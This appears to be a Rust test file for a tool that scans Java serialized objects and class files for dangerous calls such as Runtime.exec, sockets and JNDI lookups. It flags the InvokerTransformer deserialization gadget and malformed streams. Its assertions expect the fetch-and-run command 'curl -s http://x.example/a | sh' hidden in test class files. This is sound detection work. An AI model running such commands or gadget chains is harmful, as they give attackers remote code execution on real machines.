//! What Java wrote (`testdata/Make.java`), gadgets by hand, and lies.
use super::*;
use crate::reading::{self, Reading};

const OBJECTS: &[u8] = include_bytes!("testdata/objects.ser");
const CALLS: &[u8] = include_bytes!("testdata/calls.class");

fn facts(reading: &Reading) -> String {
    reading::facts(reading).join("\n")
}

fn text(text: &str) -> Vec<u8> {
    [&(text.len() as u16).to_be_bytes()[..], text.as_bytes()].concat()
}

/// An object of a class without fields.
fn object(class: &str) -> Vec<u8> {
    [&[0xac, 0xed, 0, 5, 0x73, 0x72][..], &text(class), &[0; 8], &[2, 0, 0, 0x78, 0x70]].concat()
}

#[test]
fn what_java_writes_is_read_whole() {
    let reading = reading::read(&SERIALIZED, "a.ser", OBJECTS).unwrap();
    assert!(reading.complete(), "{:?} {:?}", reading.stop, reading.ledger);
    let facts = facts(&reading);
    for name in ["HashMap", "ArrayList", "Date", "BigInteger", "Thread$State", "Make"] {
        assert!(facts.contains(&format!("name={name:?} how=\"build\" when=\"load\"")), "{name} in\n{facts}");
    }
}

#[test]
fn methods_of_a_class_file_are_calls() {
    let reading = reading::read(&CLASS, "Make.class", CALLS).unwrap();
    assert!(reading.complete(), "{:?} {:?}", reading.stop, reading.ledger);
    let wanted = r#"call module="java:java.lang" name="Runtime.exec" how="call" when="called""#;
    assert!(facts(&reading).contains(wanted), "{}", facts(&reading));
}

#[test]
fn what_runs_when_a_class_is_loaded_is_told_apart() {
    let class = include_bytes!("testdata/static.class");
    let reading = reading::read(&CLASS, "Static.class", class).unwrap();
    assert!(reading.complete(), "{:?} {:?}", reading.stop, reading.ledger);
    let facts = facts(&reading);
    for (name, when) in [("java.lang\" name=\"Runtime.exec", "import"), ("java.net\" name=\"Socket", "called")] {
        let fact = facts.lines().find(|fact| fact.contains(name)).unwrap_or_default();
        assert!(fact.contains(&format!("when=\"{when}\"")), "{name} in\n{facts}");
    }
}

#[test]
fn what_runs_when_an_object_is_read_is_followed_with_its_texts() {
    let class = include_bytes!("testdata/runs.class");
    let reading = reading::read(&CLASS, "Runs.class", class).unwrap();
    assert!(reading.complete(), "{:?} {:?}", reading.stop, reading.ledger);
    let facts = facts(&reading);
    for (name, when) in [
        // Called by `readObject` through a method of the class, beyond a switch.
        ("java.lang\" name=\"Runtime.exec", "import"),
        ("java.lang\" name=\"ProcessBuilder.start", "import"),
        ("java.lang\" name=\"Class.forName", "import"),
        // In a lambda that the class makes when it is loaded.
        ("java.lang\" name=\"System.load\"", "import"),
        ("java.net\" name=\"Socket\"", "called"),
        ("javax.naming\" name=\"InitialContext.lookup", "called"),
    ] {
        let fact = facts.lines().find(|fact| fact.contains(name)).unwrap_or_default();
        assert!(fact.contains(&format!("when=\"{when}\"")), "{name} in\n{facts}");
    }
    let exec = facts.lines().find(|fact| fact.contains("Runtime.exec")).unwrap();
    assert!(exec.contains("('sh', '-c', 'curl -s http://x.example/a | sh')"), "{exec}");
    let place = reading.facts.iter().find(|fact| fact.subject().contains("Runtime.exec")).unwrap().at.clone();
    assert!(place.pointer.as_ref().is_some_and(|pointer| pointer.text().starts_with("run+")), "{place:?}");
    assert!(class[usize::try_from(place.offset).unwrap()] == 0xb6, "an instruction that calls");
}

#[test]
fn a_gadget_is_named_with_its_package_and_its_bytecode_comes_back() {
    let class = "org.apache.commons.collections.functors.InvokerTransformer";
    let reading = reading::read(&SERIALIZED, "a.ser", &object(class)).unwrap();
    assert!(reading.complete());
    let wanted = r#"module="java:org.apache.commons.collections.functors" name="InvokerTransformer" how="build""#;
    assert!(facts(&reading).contains(wanted), "{}", facts(&reading));
    let array = [&[0xac, 0xed, 0, 5, 0x75, 0x72][..], &text("[B"), &[0; 8], &[2, 0, 0, 0x78, 0x70], &[0, 0, 0, 8, 0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]].concat();
    let reading = reading::read(&SERIALIZED, "a.ser", &array).unwrap();
    assert!(reading.complete(), "{:?} {:?}", reading.stop, reading.ledger);
    assert_eq!(reading.children.len(), 1);
}

#[test]
fn a_broken_stream_names_the_classes_behind_the_break() {
    let mut bytes = object("a.Harmless");
    bytes.push(0x20);
    bytes.extend(&object("org.evil.Gadget")[4..]);
    let reading = reading::read(&SERIALIZED, "a.ser", &bytes).unwrap();
    assert!(reading.stop.is_some());
    assert!(facts(&reading).contains(r#"module="java:org.evil" name="Gadget""#), "{}", facts(&reading));
}

#[test]
fn every_prefix_stops_politely() {
    for cut in testkit::prefixes(OBJECTS, &[]).filter(|cut| *cut > 5) {
        reading::parse(&SERIALIZED, "a.ser", &OBJECTS[..cut], false);
    }
    for cut in testkit::prefixes(CALLS, &[]) {
        assert!(reading::parse(&CLASS, "a.class", &CALLS[..cut], false).stop.is_some(), "cut at {cut}");
    }
}

#[test]
fn lies_stop_politely() {
    let start = [0xac, 0xed, 0, 5];
    let own_parent = [&[0xac, 0xed, 0, 5, 0x73, 0x72][..], &text("a"), &[0; 8], &[2, 0, 0, 0x78, 0x71, 0, 0x7e, 0, 0]].concat();
    for bytes in [
        own_parent,
        [&start[..], &[0x7b; 100_000]].concat(),
        [&start[..], &[0x73; 100_000]].concat(),
        [&start[..], &[0x7d, 0xff, 0xff, 0xff, 0xff], &[0; 1000]].concat(),
        [&start[..], &[0x7c, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]].concat(),
        [&start[..], &[0x75, 0x72], &text("[D"), &[0; 8], &[2, 0, 0, 0x78, 0x70, 0xff, 0xff, 0xff, 0xff]].concat(),
    ] {
        assert!(reading::read(&SERIALIZED, "a.ser", &bytes).unwrap().stop.is_some());
    }
}

#[test]
fn changed_bytes_stop_politely() {
    reading::change(&SERIALIZED, "a.ser", OBJECTS);
    reading::change(&CLASS, "a.class", CALLS);
    reading::change(&CLASS, "a.class", include_bytes!("testdata/runs.class"));
}

#[test]
fn what_another_class_is_handed_to_run_is_told_where_it_is_handed() {
    let class = include_bytes!("testdata/hands.class");
    let reading = reading::read(&CLASS, "Hands.class", class).unwrap();
    assert!(reading.complete(), "{:?} {:?}", reading.stop, reading.ledger);
    let facts = facts(&reading);
    let fact = facts.lines().find(|fact| fact.starts_with("operator")).unwrap_or_default();
    assert!(fact.contains("curl -s http://x.example/a | sh") && fact.contains("[<clinit>+2]"), "{facts}");
    // Handed to Java's own `System.setProperty`, it is a text among others.
    assert_eq!(facts.matches("operator").count(), 1, "{facts}");
    assert!(facts.contains(r#"call module="java:p" name="Beside.run" how="call" when="import""#), "{facts}");
}
